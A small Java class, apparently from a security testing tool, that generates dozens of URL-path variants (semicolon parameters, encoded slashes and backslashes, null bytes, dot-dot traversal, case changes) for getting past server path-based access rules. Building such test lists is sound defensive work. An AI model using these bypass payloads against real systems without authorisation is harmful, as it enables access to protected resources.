package dev.signalwright.artifacts.access;

import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** The ways an address has been bent past path rules of real servers, applied to any address. */
final class Bends {
    private Bends() {}

    static List<String> of(String target) {
        String name = target.substring(1);
        int slash = name.indexOf('/');
        String first = slash < 0 ? name : name.substring(0, slash);
        String rest = slash < 0 ? "" : name.substring(slash);
        return Stream.of(
                        target,
                        target + "/",
                        target + "//",
                        target + ".",
                        target + ";x",
                        target + ";x=/login",
                        target + "%3Bx",
                        target + "%2F",
                        target + "%5C",
                        target + "%00",
                        target + "?/login",
                        target + "%3F/static/look.css",
                        target + "#/login",
                        "/" + target,
                        "//" + target,
                        "/." + target,
                        "/%2e" + target,
                        "/;x" + target,
                        "/" + first + ";x" + rest,
                        "/" + first + "%3Bx" + rest,
                        "/" + first + "%2F" + (rest.isEmpty() ? "" : rest.substring(1)),
                        "/" + first + "%5C" + (rest.isEmpty() ? "" : rest.substring(1)),
                        "/" + first + "/." + rest,
                        "/" + first + "/x/.." + rest,
                        "/login/.." + target,
                        "/login%2F.." + target,
                        "/login;/.." + target,
                        "/static/.." + target,
                        "/static/%2e%2e" + target,
                        "/static/..%2f" + name,
                        "/static/..%5c" + name,
                        "/static/..;" + target,
                        "/static%2F.." + target,
                        "/q/health/live/../../.." + target,
                        "/" + first.toUpperCase(Locale.ROOT) + rest,
                        target.toUpperCase(Locale.ROOT))
                .distinct()
                .toList();
    }
}
